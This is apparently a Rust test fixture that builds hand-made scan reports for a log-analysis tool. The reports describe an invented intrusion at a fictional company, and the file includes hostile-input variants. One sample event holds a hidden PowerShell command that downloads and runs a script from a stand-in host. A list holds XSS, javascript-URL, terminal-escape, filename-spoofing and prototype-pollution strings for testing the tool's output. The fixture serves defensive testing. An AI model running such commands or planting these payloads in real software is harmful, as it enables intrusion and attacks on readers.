//! Scans made by hand, in the shape of `vedette scan --format json`: a small company, a hostile one, a flood, nothing.

#![allow(clippy::unwrap_used, reason = "a fixture that is not as it should be must stop the test")]

use serde_json::{Value, json};

/// An event of the invented company; `n` makes its uid.
fn event(n: u32, time: &str, host: &str, channel: &str, code: &str, fields: &[(&str, &str)]) -> Value {
    let fields: Vec<Value> = fields
        .iter()
        .map(|(name, value)| match name.strip_prefix('=') {
            Some(name) => json!([name, value, { "derived": true }]),
            None => json!([name, value]),
        })
        .collect();
    json!({
        "uid": uid(n), "file": format!("logs/{host}/{channel}.evtx"), "record": 1000 + n, "time": time,
        "time_basis": "stated", "host": host, "channel": channel, "code": code,
        "mapping": "windows_sysmon", "case": "process_creation",
        "sha256": format!("{n:064x}"), "cut": 0, "fields": fields,
    })
}

fn uid(n: u32) -> String {
    format!("{n:032x}")
}

struct Made {
    findings: Vec<Value>,
}

impl Made {
    fn finding(&mut self, n: u32, rule: &Value, time: &str, host: &str, incident: Option<&str>) -> String {
        let id = format!("F-{n:016x}");
        let mut finding = json!({
            "id": id, "rule_id": rule["id"], "title": rule["title"], "level": rule["level"], "status": "test",
            "file": format!("logs/{host}/Sysmon.evtx"), "event": { "record": 1000 + n, "uid": uid(n) },
            "time": time, "host": host, "channel": "Sysmon", "code": "1", "actor": "NORDLICHT\\anna.berg",
            "techniques": rule["techniques"], "tactics": rule["tactics"], "tags": [], "count": 1,
            "details": { "Image": "C:\\Windows\\System32\\rundll32.exe",
                         "CommandLine": format!("rundll32.exe C:\\Users\\anna.berg\\AppData\\Local\\Temp\\upd{n}.dll,Start") },
            "author": "Vedette", "license": "Apache-2.0", "rule_path": rule["path"],
            "false_positives": rule["falsepositives"], "entities": [], "incident": incident,
        });
        if incident.is_none() {
            finding["set_aside"] = json!("nothing shared");
        }
        self.findings.push(finding);
        id
    }
}

fn rule(n: u32, title: &str, level: &str, technique: &str, tactic: &str) -> Value {
    json!({
        "id": format!("00000000-0000-4000-8000-{n:012x}"), "title": title, "level": level, "status": "test",
        "author": "Vedette", "license": "Apache-2.0", "path": format!("rules/windows/rule_{n}.yml"),
        "techniques": [technique], "tactics": [tactic], "tags": [],
        "falsepositives": ["Software distribution by an administrator"],
        "guide": "Look at the parent first: who started it, and from where.\n\n- Was the file signed?\n- Was it seen on another host before?\n- Does the account do this every day?",
        "references": ["https://attack.example/techniques"], "description": "A process that is seldom started this way.",
    })
}

/// Two incidents and a few findings set aside.
pub fn estate() -> Value {
    let rules = [
        rule(1, "Office starts a script interpreter", "high", "T1059.001", "execution"),
        rule(2, "Memory of LSASS was read", "critical", "T1003.001", "credential-access"),
        rule(3, "Service installed from a share", "high", "T1021.002", "lateral-movement"),
        rule(4, "Shadow copies deleted", "critical", "T1490", "impact"),
        rule(5, "Whoami asks for everything", "low", "T1033", "discovery"),
        rule(6, "Run key written by a script", "medium", "T1547.001", "persistence"),
        rule(7, "Access key used from a new country", "medium", "T1078.004", "initial-access"),
    ];
    let mut made = Made { findings: Vec::new() };
    let (main, cloud) = ("I-00000000000000a1", "I-00000000000000b2");
    let at = |minute: u32| {
        format!("2026-03-05T{:02}:{:02}:{:02}.250Z", 9 + minute / 60, minute % 60, (minute * 7) % 60)
    };
    let plan: [(u32, usize, &str, u32); 9] = [
        (1, 0, "WS-ANNA", 2),
        (2, 5, "WS-ANNA", 9),
        (3, 4, "WS-ANNA", 5),
        (4, 1, "WS-ANNA", 31),
        (5, 2, "FS01", 44),
        (6, 2, "DC01", 47),
        (7, 1, "DC01", 58),
        (8, 3, "FS01", 660),
        (9, 3, "DC01", 661),
    ];
    let mut evidence = Vec::new();
    let mut story = Vec::new();
    let texts = [
        "WINWORD.EXE started powershell.exe for NORDLICHT\\anna.berg on WS-ANNA, with a hidden window.",
        "powershell.exe wrote the run key \"Updater\" of NORDLICHT\\anna.berg on WS-ANNA.",
        "whoami.exe /all ran on WS-ANNA as NORDLICHT\\anna.berg.",
        "rundll32.exe opened lsass.exe for reading its memory on WS-ANNA.",
        "From WS-ANNA (10.20.4.17) the service \"updsvc\" was installed on FS01 as NORDLICHT\\svc-backup.",
        "From WS-ANNA (10.20.4.17) the service \"updsvc\" was installed on DC01 as NORDLICHT\\svc-backup.",
        "rundll32.exe opened lsass.exe for reading its memory on DC01.",
        "vssadmin.exe deleted all shadow copies on FS01.",
        "vssadmin.exe deleted all shadow copies on DC01.",
    ];
    for ((n, r, host, minute), text) in plan.into_iter().zip(texts) {
        let id = made.finding(n, &rules[r], &at(minute), host, Some(main));
        evidence.push(event(
            n,
            &at(minute),
            host,
            "Sysmon",
            "1",
            &[
                ("EventID", "1"),
                ("Computer", &format!("{host}.nordlicht.example")),
                ("User", "NORDLICHT\\anna.berg"),
                ("Image", "C:\\Windows\\System32\\rundll32.exe"),
                (
                    "CommandLine",
                    "powershell -nop -w hidden -c \"iwr http://cdn-update.example/a.ps1?x=1&y=2 | iex\"",
                ),
                ("Hashes", "SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08"),
                ("ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
                ("=Decoded", "iwr http://cdn-update.example/a.ps1"),
            ],
        ));
        story.push(json!({
            "text": text, "kind": "observed", "events": [uid(n)], "time": at(minute), "host": host,
            "tactic": rules[r]["tactics"][0], "techniques": rules[r]["techniques"], "findings": [id],
            "claim": { "predicate": "started" },
        }));
        if n == 4 {
            story.push(json!({
                "text": "The credentials of NORDLICHT\\svc-backup were probably taken from WS-ANNA: they were used from there 13 minutes later and never before.",
                "kind": "inferred", "events": [uid(4), uid(5)], "time": at(31), "host": "WS-ANNA",
                "tactic": "credential-access", "techniques": ["T1003.001"], "findings": [],
            }));
        }
    }
    for n in 20..24 {
        let id = made.finding(n, &rules[6], &format!("2026-03-04T02:{n}:00Z"), "111122223333", Some(cloud));
        assert!(!id.is_empty());
        evidence.push(event(
            n,
            &format!("2026-03-04T02:{n}:00Z"),
            "111122223333",
            "Management",
            "GetObject",
            &[
                ("sourceIPAddress", "203.0.113.77"),
                ("userIdentity.arn", "arn:aws:iam::111122223333:user/deploy"),
            ],
        ));
    }
    for n in 40..52 {
        made.finding(n, &rules[4], &format!("2026-03-06T11:{}:00Z", n - 30), "WS-PAUL", None);
    }
    let step = |phase: &str, text: &str, targets: &[&str], why: &str, caution: Option<&str>| {
        json!({ "phase": phase, "text": text, "targets": targets, "why": why, "caution": caution,
                "reference": "NIST SP 800-61r3, RS.MI" })
    };
    let entity = |id: &str, kind: &str, shown: &str, part: &str, n: u32| {
        json!({ "id": id, "kind": kind, "key": shown.to_lowercase(), "shown": shown, "part": part,
                "first": at(2), "last": at(660), "findings": n, "facts": [] })
    };
    let incident = json!({
        "id": main, "title": "Credentials taken on WS-ANNA and shadow copies deleted on FS01 and DC01",
        "severity": "critical",
        "severity_reasons": ["Shadow copies were deleted on two hosts, which is done before encryption.", "A domain controller is among the hosts."],
        "confidence": "high",
        "confidence_reasons": ["Nine findings of four rules on three hosts fit one order of events.", "The same file hash was seen on all three hosts."],
        "first": at(2), "last": at(661),
        "summary": "A document opened by anna.berg on WS-ANNA started PowerShell, which loaded a file from cdn-update.example. Credentials were read from memory, a service account was used to reach FS01 and DC01, and ten hours later the shadow copies of both were deleted.",
        "techniques": ["T1059.001", "T1547.001", "T1033", "T1003.001", "T1021.002", "T1490"],
        "tactics": ["execution", "persistence", "discovery", "credential-access", "lateral-movement", "impact"],
        "entities": [
            entity("e1", "host", "WS-ANNA", "victim", 4), entity("e2", "host", "FS01", "victim", 2),
            entity("e3", "host", "DC01", "victim", 3), entity("e4", "user", "NORDLICHT\\anna.berg", "victim", 6),
            entity("e5", "user", "NORDLICHT\\svc-backup", "victim", 3), entity("e6", "address", "198.51.100.23", "attacker", 2),
            entity("e7", "domain", "cdn-update.example", "attacker", 1),
            entity("e8", "process", "C:\\Windows\\System32\\rundll32.exe", "tool", 5),
            entity("e9", "file_hash", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "tool", 5),
            entity("e10", "address", "10.20.4.17", "victim", 2),
        ],
        "links": [
            { "from": "e7", "to": "e1", "label": "was asked by", "events": [uid(1)], "count": 1 },
            { "from": "e4", "to": "e1", "label": "logged on to", "events": [uid(1)], "count": 4 },
            { "from": "e5", "to": "e2", "label": "logged on to", "events": [uid(5)], "count": 1 },
            { "from": "e5", "to": "e3", "label": "logged on to", "events": [uid(6)], "count": 2 },
            { "from": "e10", "to": "e5", "label": "used", "events": [uid(5)], "count": 2 },
            { "from": "e1", "to": "e8", "label": "ran", "events": [uid(4)], "count": 3 },
            { "from": "e3", "to": "e8", "label": "ran", "events": [uid(7)], "count": 1 },
            { "from": "e8", "to": "e9", "label": "is", "events": [uid(4)], "count": 5 },
        ],
        "findings": (1..10).map(|n| format!("F-{n:016x}")).collect::<Vec<_>>(), "findings_count": 9,
        "joins": [
            { "finding": "F-0000000000000002", "to": "F-0000000000000001", "total": 9, "threshold": 6,
              "because": [{ "kind": "process", "key": "ws-anna/{3f2a}", "weight": 6, "reason": "one process tree" },
                          { "kind": "logon_session", "key": "ws-anna/0x3e7a1", "weight": 3, "reason": "one logon session" }] },
            { "finding": "F-0000000000000005", "to": "F-0000000000000004", "total": 7, "threshold": 6,
              "because": [{ "kind": "address", "key": "10.20.4.17", "weight": 4, "reason": "seen on 2 of 6 hosts" },
                          { "kind": "file_hash", "key": "9f86d081…", "weight": 3, "reason": "seen nowhere else" }] },
        ],
        "risk": { "score": 91, "parts": [
            { "what": "Memory of LSASS was read", "points": 30, "why": "critical, on 2 of 6 hosts" },
            { "what": "Shadow copies deleted", "points": 26, "why": "critical; the second one counts half" },
            { "what": "Progress along ATT&CK", "points": 20, "why": "six tactics, impact reached" },
            { "what": "DC01", "points": 15, "why": "a domain controller" },
        ] },
        "story": story,
        "phases": [
            { "phase": "exploitation", "model": "kill_chain", "first": at(2), "last": at(9), "steps": [0, 1] },
            { "phase": "actions_on_objectives", "model": "kill_chain", "first": at(31), "last": at(661), "steps": [3, 4, 8, 9] },
        ],
        "diamond": { "adversary": [], "capability": ["e8", "PowerShell"], "infrastructure": ["e6", "e7"], "victim": ["e1", "e2", "e3"] },
        "blast_radius": { "hosts": ["WS-ANNA", "FS01", "DC01"], "accounts": ["NORDLICHT\\anna.berg", "NORDLICHT\\svc-backup"], "addresses": ["10.20.4.17"], "files": 2 },
        "unknowns": [
            { "text": "No PowerShell script block was logged on WS-ANNA, so what the script did is not known.", "remedy": "Switch on script block logging (event 4104)." },
            { "text": "FS01 is silent between 10:02 and 20:00 on 5 March.", "remedy": "Ask for its Security log of these hours." },
        ],
        "next_steps": [
            step("preserve", "Take the memory of WS-ANNA and DC01 before anything else.", &["WS-ANNA", "DC01"], "What was loaded into memory is on no disk.", None),
            step("contain", "Isolate WS-ANNA, FS01 and DC01 in one step.", &["WS-ANNA", "FS01", "DC01"], "Whoever sees one foothold go will use another.", Some("DC01 is a domain controller: isolating it stops logons.")),
            step("contain", "Disable svc-backup and end its sessions.", &["NORDLICHT\\svc-backup"], "It was used on two hosts.", None),
            step("eradicate", "Remove the service updsvc and the run key Updater.", &["FS01", "DC01", "WS-ANNA"], "Both start the same file.", None),
            step("recover", "Restore from a backup older than 5 March, 09:02.", &["FS01"], "Later ones may hold the same file.", None),
        ],
    });
    let second = json!({
        "id": cloud, "title": "Access key of deploy used from 203.0.113.77", "severity": "medium",
        "severity_reasons": ["Objects were read, nothing was changed."], "confidence": "low",
        "confidence_reasons": ["One source only."], "first": "2026-03-04T02:20:00Z", "last": "2026-03-04T02:23:00Z",
        "summary": "The access key of the user deploy was used from an address that was never seen before. Four objects were read.",
        "techniques": ["T1078.004"], "tactics": ["initial-access"],
        "entities": [entity("e1", "cloud_principal", "arn:aws:iam::111122223333:user/deploy", "victim", 4), entity("e2", "address", "203.0.113.77", "attacker", 4)],
        "links": [{ "from": "e2", "to": "e1", "label": "used", "events": [uid(20)], "count": 4 }],
        "findings": (20..24).map(|n| format!("F-{n:016x}")).collect::<Vec<_>>(), "findings_count": 4,
        "risk": { "score": 22.5, "parts": [{ "what": "Access key used from a new country", "points": 22.5, "why": "medium" }] },
        "story": [{ "text": "arn:aws:iam::111122223333:user/deploy read 4 objects from 203.0.113.77.", "kind": "observed",
                    "events": [uid(20), uid(21), uid(22), uid(23)], "time": "2026-03-04T02:20:00Z", "host": "111122223333",
                    "tactic": "initial-access", "techniques": ["T1078.004"], "findings": ["F-0000000000000014"] }],
        "unknowns": [{ "text": "CloudTrail data events are missing for two buckets.", "remedy": "Switch them on." }],
        "next_steps": [],
    });
    let levels = |level: &str| made.findings.iter().filter(|f| f["level"] == level).count();
    let total = made.findings.len();
    json!({
        "files": [
            { "path": "logs/WS-ANNA/Sysmon.evtx", "format": "evtx", "parser": "windows_sysmon", "bytes": 1_118_208, "records": 900, "events": 890,
              "joined": 4, "duplicate": 5, "rejected": 1, "rejects": [{ "reason": "checksum", "count": 1, "record": 12, "detail": "chunk 3" }],
              "hosts": { "WS-ANNA": 890 }, "first": at(0), "last": at(661), "time_basis": "stated", "problems": [], "complete": true },
            { "path": "logs/edge/fw.log", "format": "syslog", "parser": "generic_syslog", "bytes": 20_000, "records": 100, "events": 100,
              "hosts": { "edge": 100 }, "first": at(0), "last": at(600), "time_basis": "zone assumed", "complete": false,
              "problems": [{ "code": "VD-I003", "place": "logs/edge/fw.log", "fault": "ends in the middle of a line", "consequence": "the last record is left out", "remedy": "copy the file again", "count": 1 }] },
        ],
        "findings": made.findings, "incidents": [second, incident],
        "set_aside": [{ "reason": "nothing shared", "count": 12, "why": "It shares no entity with another finding that is not everywhere." }],
        "evidence": evidence, "rules": rules,
        "case": { "case": "NL-2026-014", "operator": "M. Okafor", "tlp": "TLP:AMBER" },
        "summary": {
            "version": "0.1.0", "complete": true, "files": 2, "bytes": 1_138_208, "records": 1000, "events": 990, "joined": 4,
            "duplicate": 5, "rejected": 1, "unmapped": 3, "untimed": 0, "outside": 0, "first": "2026-03-02T00:00:05Z", "last": "2026-03-08T23:57:19Z",
            "findings": { "critical": levels("critical"), "high": levels("high"), "medium": levels("medium"), "low": levels("low"), "informational": 0 },
            "findings_not_kept": 0, "incidents": 2, "in_incidents": 13, "set_aside": total - 13, "evidence_not_kept": 0,
            "rules": { "rules": 258, "running": 258, "left_out": 0, "no_source": 0, "hash": "ab".repeat(32) },
            "hosts": [
                { "name": "WS-ANNA", "channels": [{ "name": "Sysmon", "events": 890, "first": at(0), "last": at(661), "missing_records": 3,
                  "notices": [{ "kind": "log cleared", "time": at(59), "file": "logs/WS-ANNA/Sysmon.evtx", "event": { "record": 4, "uid": uid(99) } }] }] },
                { "name": "FS01", "channels": [] }, { "name": "DC01", "channels": [] },
            ],
            "problems": [],
        },
    })
}

/// What an attacker would write where a reader or a program might act on it.
pub const HOSTILE: &[&str] = &[
    "</script><img src=x onerror=\"document.title='owned'\">",
    "<!--<script>document.title='owned'</script>",
    "\u{202e}gpj.exe\u{202c}",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "javascript:document.title='owned'",
    "{{script}}{{data}}",
    "line\u{2028}separator\u{2029}end",
    "__proto__",
    "\"'`${document.title='owned'}",
];

/// The estate with hostile text in every string that comes from an event, and a megabyte in one.
pub fn hostile() -> Value {
    let mut scan = estate();
    let mut n = 0;
    let mut next = || {
        n += 1;
        HOSTILE[n % HOSTILE.len()].to_owned()
    };
    for e in scan["evidence"].as_array_mut().unwrap() {
        for name in ["file", "host", "channel", "code"] {
            e[name] = json!(next());
        }
        for f in e["fields"].as_array_mut().unwrap() {
            f[1] = json!(next());
        }
        let more: Vec<Value> = HOSTILE.iter().map(|h| json!([h, h])).collect();
        e["fields"].as_array_mut().unwrap().extend(more);
    }
    scan["evidence"][0]["fields"][0] = json!(["huge", "A<".repeat(1 << 19)]);
    for f in scan["findings"].as_array_mut().unwrap() {
        for name in ["file", "host", "channel", "code", "actor", "source_uid", "title"] {
            f[name] = json!(next());
        }
        f["details"] = json!({ next(): next(), "huge": "\u{202e}".repeat(1000) });
    }
    for i in scan["incidents"].as_array_mut().unwrap() {
        i["title"] = json!(format!("On {}", next()));
        i["summary"] = json!(format!("It says {}. And {}", next(), next()));
        for s in i["story"].as_array_mut().unwrap() {
            s["text"] = json!(format!("It ran {}", next()));
            s["host"] = json!(next());
            s["tactic"] = json!(next());
        }
        for e in i["entities"].as_array_mut().unwrap() {
            e["shown"] = json!(next());
            e["kind"] = json!(next());
            e["facts"] = json!([{ "label": next(), "value": next(), "source": next() }]);
        }
        for s in i["next_steps"].as_array_mut().unwrap() {
            s["targets"] = json!([next(), next()]);
        }
    }
    for f in scan["files"].as_array_mut().unwrap() {
        f["path"] = json!(next());
    }
    scan["case"] = json!({ "case": HOSTILE[0], "operator": HOSTILE[2], "tlp": "nonsense" });
    scan
}

/// The estate with `n` findings more, each with an event of its own.
pub fn flood(n: u32) -> Value {
    let mut scan = estate();
    let one = scan["findings"][20].clone();
    let kept = scan["evidence"][0].clone();
    for i in 0..n {
        let mut f = one.clone();
        f["id"] = json!(format!("F-{:016x}", 0xf000_0000_u64 + u64::from(i)));
        f["event"] = json!({ "record": 5000 + i, "uid": uid(50_000 + i) });
        f["time"] = json!(format!("2026-03-07T{:02}:{:02}:{:02}Z", i / 3600 % 24, i / 60 % 60, i % 60));
        f["host"] = json!(format!("WS-{:04}", i % 500));
        f["details"] = json!({ "CommandLine": format!("cmd.exe /c whoami /all > C:\\Users\\u{i}\\AppData\\Local\\Temp\\{i:08x}.txt & type it"),
                               "Image": "C:\\Windows\\System32\\whoami.exe", "ParentImage": format!("C:\\Tools\\run{}.exe", i % 90) });
        let mut e = kept.clone();
        e["uid"] = f["event"]["uid"].clone();
        e["sha256"] = json!(format!("{i:064x}"));
        e["fields"][4][1] = f["details"]["CommandLine"].clone();
        scan["findings"].as_array_mut().unwrap().push(f);
        scan["evidence"].as_array_mut().unwrap().push(e);
    }
    let low = scan["summary"]["findings"]["low"].as_u64().unwrap();
    scan["summary"]["findings"]["low"] = json!(low + u64::from(n));
    scan
}

/// Read, and nothing found.
pub fn quiet() -> Value {
    let mut scan = estate();
    for name in ["findings", "incidents", "set_aside", "evidence", "rules"] {
        scan[name] = json!([]);
    }
    scan["summary"]["findings"] = json!({});
    scan["summary"]["in_incidents"] = json!(0);
    scan
}
